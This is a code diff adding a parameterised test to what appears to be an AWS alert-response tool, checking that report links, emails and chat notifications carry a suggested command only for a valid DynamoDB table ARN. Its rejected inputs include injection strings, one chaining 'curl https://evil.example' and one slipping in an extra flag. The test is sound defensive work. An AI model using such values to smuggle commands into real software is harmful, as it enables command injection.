@@ -1,5 +1,8 @@
 import type { Alert } from '../../../lib/core/alert/alert';
-import { toLinks } from '../../../lib/core/alert/console-links';
+import { linkLines, toLinks } from '../../../lib/core/alert/console-links';
+import { renderMail } from '../../../lib/core/alert/message/alert-message';
+import { toChatNotification } from '../../../lib/core/alert/message/chat-notification';
+import { toPlan, toResponseAlert } from '../../../lib/core/response/response-plan';
 import { sampleAlert } from './sample-alert';
 
 const EVENT = '6f1d1d5e-7c1f-4f5a-9a53-2f7f3f6f1a01';
@@ -57,3 +60,18 @@ test.each(['alice', 'alice and 2 more', 'alice and at least 99 more'])(
     expect(toLinks(alert).actor).toMatch(/\?Username=alice$/);
   },
 );
+
+test.each([
+  ['arn:aws:dynamodb:eu-west-1:111122223333:table/responder', true],
+  ['arn:aws:dynamodb:eu-west-1:111122223333:table/x --table y', false],
+  ['x; curl https://evil.example', false],
+  [undefined, false],
+])('a report of a responder links to what was done for its alert, with the table %s: %s', (tableArn, has) => {
+  const plan = toPlan(sampleAlert(), 'start-logging');
+  const report = toResponseAlert({ outcome: 'done', plan, ...(tableArn === undefined ? {} : { tableArn }) });
+  const command = `trailwatch response ${sampleAlert().id} --table ${tableArn}`;
+  expect(linkLines(report).filter(([name]) => name === 'Outcome')).toEqual(has ? [['Outcome', command]] : []);
+  expect(renderMail(report).includes(`\nOutcome: ${command}\n`)).toBe(has);
+  const { nextSteps = [] } = toChatNotification(report).content;
+  expect(nextSteps.includes(`What was done for the alert: \`${command}\``)).toBe(has);
+});
